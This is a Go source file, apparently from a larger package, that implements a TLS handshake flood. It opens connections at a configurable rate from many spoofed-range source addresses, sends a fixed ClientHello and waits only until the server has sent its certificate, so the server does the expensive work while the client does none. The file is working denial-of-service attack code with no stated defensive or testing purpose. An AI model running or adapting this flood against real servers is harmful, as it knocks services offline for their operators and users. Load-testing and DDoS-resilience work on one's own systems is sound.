package flood

import (
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

// Shake says what a flood of TLS handshakes is: each connection says hello, lets the server do its part of the work and never does its own.
type Shake struct {
	To        netip.AddrPort
	From      netip.Prefix // its addresses are used from the first on
	Addresses int          // how many sources the connections are spread over
	Rate      int          // connections a second
}

// Shaking is a running one.
type Shaking struct {
	done chan struct{}
	work sync.WaitGroup

	begun, served atomic.Uint64
}

const (
	// shakers is how many connections are under way at once: what a server needs a second for still keeps the rate.
	shakers = 512
	// shakeWithin is how long a connection waits for the server's part.
	shakeWithin = 2 * time.Second
	// flightBytes is where the certificate of a server is surely behind: then its part of the work is done.
	flightBytes = 600
)

// Start begins to shake.
func (s Shake) Start() (*Shaking, error) {
	if s.Addresses <= 0 || s.Rate <= 0 {
		return nil, errors.New("a flood of handshakes needs addresses and a rate")
	}
	hello, err := clientHello()
	if err != nil {
		return nil, err
	}
	r := &Shaking{done: make(chan struct{})}
	turns := make(chan int)
	for range shakers {
		r.work.Go(func() {
			for i := range turns {
				r.shake(s, hello, i)
			}
		})
	}
	r.work.Go(func() {
		defer close(turns)
		tick := time.NewTicker(step)
		defer tick.Stop()
		began, next := time.Now(), 0
		for {
			select {
			case <-r.done:
				return
			case <-tick.C:
			}
			for due := int(time.Since(began).Seconds() * float64(s.Rate)); next < due; next++ {
				select {
				case turns <- next:
				case <-r.done:
					return
				}
			}
		}
	})
	return r, nil
}

// shake is one connection.
func (r *Shaking) shake(s Shake, hello []byte, i int) {
	from := s.From.Masked().Addr().Next()
	for range i % s.Addresses {
		from = from.Next()
	}
	dialer := net.Dialer{Timeout: openWithin, LocalAddr: &net.TCPAddr{IP: from.AsSlice()}}
	r.begun.Add(1)
	conn, err := dialer.Dial("tcp", s.To.String())
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	// Without a lingering state, so that the ports of a source last.
	_ = conn.(*net.TCPConn).SetLinger(0)
	_ = conn.SetDeadline(time.Now().Add(shakeWithin))
	if _, err := conn.Write(hello); err != nil {
		return
	}
	buf := make([]byte, flightBytes)
	for got := 0; got < flightBytes; {
		n, err := conn.Read(buf)
		if err != nil {
			return
		}
		got += n
	}
	r.served.Add(1)
}

// Begun is how many connections were tried.
func (r *Shaking) Begun() uint64 { return r.begun.Load() }

// Served is how many connections the server did its part of the handshake for.
func (r *Shaking) Served() uint64 { return r.served.Load() }

// Stop ends it.
func (r *Shaking) Stop() {
	close(r.done)
	r.work.Wait()
}

// clientHello is the first thing a client says. Each connection says the same: a server cannot tell before it has answered.
func clientHello() ([]byte, error) {
	near, far := net.Pipe()
	defer func() { _ = near.Close() }()
	var client sync.WaitGroup
	defer client.Wait()
	defer func() { _ = far.Close() }()
	client.Go(func() { _ = tls.Client(far, &tls.Config{InsecureSkipVerify: true}).Handshake() })
	_ = near.SetReadDeadline(time.Now().Add(openWithin))
	buf := make([]byte, 1<<14)
	n, err := near.Read(buf)
	if err != nil {
		return nil, fmt.Errorf("first message of a handshake: %w", err)
	}
	return buf[:n], nil
}
